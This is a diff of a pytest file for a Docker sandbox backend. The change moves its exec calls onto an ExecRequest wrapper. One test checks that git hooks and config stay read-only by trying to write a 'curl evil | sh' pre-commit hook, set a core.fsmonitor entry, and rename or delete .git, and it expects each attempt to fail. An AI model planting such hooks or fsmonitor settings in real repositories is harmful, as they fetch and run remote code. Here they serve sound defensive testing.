@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from sandbox.base import ExecRequest
 from sandbox.docker import DockerBackend
 from sandbox.errors import RuntimeUnavailableError
 from sandbox.spec import HOME_DIR, SandboxSpec
@@ -97,12 +98,16 @@ async def test_git_hooks_and_config_are_mounted_read_only(docker_backend: Docker
     config = (git / "config").read_text()
     box = await docker_backend.get(user_workspace)
     # objects and refs stay writable: git works inside
-    r = await box.exec("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x 2>&1; echo rc=$?")
+    r = await box.exec(
+        ExecRequest("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x 2>&1; echo rc=$?")
+    )
     assert r.stdout.decode().strip().endswith("rc=0"), r.stdout
     r = await box.exec(
-        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; echo '[core] fsmonitor=x' >> .git/config; "
-        "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?; mv .git .git2; echo rc=$?; rm -rf .git; echo rc=$?; "
-        "ls .git/config .git/hooks >/dev/null; echo still=$?"
+        ExecRequest(
+            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; echo '[core] fsmonitor=x' >> .git/config; "
+            "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?; mv .git .git2; echo rc=$?; rm -rf .git; echo rc=$?; "
+            "ls .git/config .git/hooks >/dev/null; echo still=$?"
+        )
     )
     out = r.stdout.decode()
     assert "rc=0" not in out and "still=0" in out, out
@@ -149,7 +154,7 @@ async def test_gvisor_requested_but_not_in_effect_is_refused(docker_ready: None,
     try:
         box = await backend.get(workspace)
         with pytest.raises(RuntimeUnavailableError, match="not in effect"):
-            await box.exec("true")
+            await box.exec(ExecRequest("true"))
         # fail closed: the runc container was removed, nothing ran
         assert await backend.inspect(workspace) is None
     finally:
@@ -191,6 +196,6 @@ async def test_programs_written_to_tmp_and_home_run(runtime_backend: DockerBacke
         'chmod +x "$d/x.sh"; "$d/x.sh"; done; '
         "python3 -m venv --without-pip /tmp/v && /tmp/v/bin/python3 -c 'print(\"venv ok\")'"
     )
-    r = await box.exec(script, timeout=60)
+    r = await box.exec(ExecRequest(script, timeout=60))
     assert r.exit_code == 0, (r.stdout, r.stderr)
     assert r.stdout.decode().split("\n")[:3] == ["ran in /tmp", "ran in /home/sandbox", "venv ok"]
